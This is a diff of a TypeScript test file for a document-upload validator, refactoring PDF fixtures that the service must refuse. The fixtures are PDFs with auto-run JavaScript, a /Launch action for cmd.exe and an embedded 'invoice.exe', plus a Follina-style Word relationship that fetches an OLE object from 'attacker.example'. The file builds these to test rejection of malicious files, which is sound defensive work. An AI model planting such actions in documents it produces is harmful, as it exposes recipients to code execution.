@@ -17,7 +17,7 @@ import {
   storedSubmissions,
   validClaimFields,
 } from "./helpers";
-import { onePage, pdfFile, type PdfObject } from "./pdf-files";
+import { attachedFile, linkAnnotation, onePage, onePageWith, pdfFile, scriptAction, webPageAction } from "./pdf-files";
 import { listening, tusClient } from "./tus-requests";
 import {
   docxFile,
@@ -37,16 +37,6 @@ const PROGRAM = `this Word document contains macros or a program, which we canno
 const UNREADABLE_PHOTO =
   "this image cannot be opened: it may be damaged or cut short. Choose the photo again, or send a scan of it.";
 
-const alert = "<< /S /JavaScript /JS (app.alert\\('Claim approved'\\)) >>";
-const website = "<< /S /URI /URI (https://claims.example/) >>";
-const attachment: PdfObject[] = [
-  "<< /Names [(invoice.exe) 5 0 R] >>",
-  "<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>",
-  { dictionary: "<< /Type /EmbeddedFile >>", data: Buffer.from("MZ\x90\x00") },
-];
-const withAnnotation = (annotation: string) => [...onePage("", "/Annots [4 0 R]"), annotation];
-const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A ${action} >>`;
-
 /** A .docx whose document.xml.rels holds Follina's relationship: an OLE object fetched from a web page. */
 const follina = { type: `${TYPES}/oleObject`, target: "http://attacker.example/payload.html!", external: true };
 const externalTemplate = relationshipsPart("word/_rels/settings.xml.rels", [
@@ -58,7 +48,7 @@ const refused: [string, string, () => Promise<Buffer> | Buffer, string][] = [
     "a PDF with /OpenAction, /JavaScript and an attached file, in object streams",
     "report.pdf",
     () =>
-      pdfFile([...onePage("/OpenAction 7 0 R /Names << /EmbeddedFiles 4 0 R >>"), ...attachment, alert], {
+      pdfFile([...onePage("/OpenAction 7 0 R /Names << /EmbeddedFiles 4 0 R >>"), ...attachedFile, scriptAction], {
         objectStreams: true,
       }),
     PDF_ACTIVE,
@@ -66,44 +56,43 @@ const refused: [string, string, () => Promise<Buffer> | Buffer, string][] = [
   [
     "a PDF with a document-level script (/JavaScript)",
     "report.pdf",
-    () => pdfFile([...onePage("/Names << /JavaScript 4 0 R >>"), "<< /Names [(init) 5 0 R] >>", alert]),
+    () => pdfFile([...onePage("/Names << /JavaScript 4 0 R >>"), "<< /Names [(init) 5 0 R] >>", scriptAction]),
     PDF_ACTIVE,
   ],
   [
     "a PDF with a script in a rendition action (/JS)",
     "report.pdf",
-    () => pdfFile(withAnnotation(link("<< /S /Rendition /OP 0 /JS (this.print\\(\\)) >>"))),
+    () => pdfFile(onePageWith(linkAnnotation("<< /S /Rendition /OP 0 /JS (this.print\\(\\)) >>"))),
     PDF_ACTIVE,
   ],
   [
     "a PDF that opens a web page when opened (/OpenAction)",
     "report.pdf",
-    () => pdfFile(onePage(`/OpenAction ${website}`)),
+    () => pdfFile(onePage(`/OpenAction ${webPageAction}`)),
     PDF_ACTIVE,
   ],
   [
     "a PDF with a page's own action (/AA)",
     "report.pdf",
-    () => pdfFile(onePage("", `/AA << /O ${website} >>`)),
+    () => pdfFile(onePage("", `/AA << /O ${webPageAction} >>`)),
     PDF_ACTIVE,
   ],
   [
     "a PDF whose link starts a program (/Launch)",
     "report.pdf",
-    () => pdfFile(withAnnotation(link("<< /S /Launch /F (cmd.exe) >>"))),
+    () => pdfFile(onePageWith(linkAnnotation("<< /S /Launch /F (cmd.exe) >>"))),
     PDF_ACTIVE,
   ],
   [
     "a PDF with an attached file (/EmbeddedFile)",
     "report.pdf",
-    () => pdfFile([...onePage("/Names << /EmbeddedFiles 4 0 R >>"), ...attachment]),
+    () => pdfFile([...onePage("/Names << /EmbeddedFiles 4 0 R >>"), ...attachedFile]),
     PDF_ACTIVE,
   ],
   [
     "a PDF with Flash (/RichMedia)",
     "report.pdf",
-    () =>
-      pdfFile(withAnnotation("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] >>"), { objectStreams: true }),
+    () => pdfFile(onePageWith("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] >>"), { objectStreams: true }),
     PDF_ACTIVE,
   ],
   [
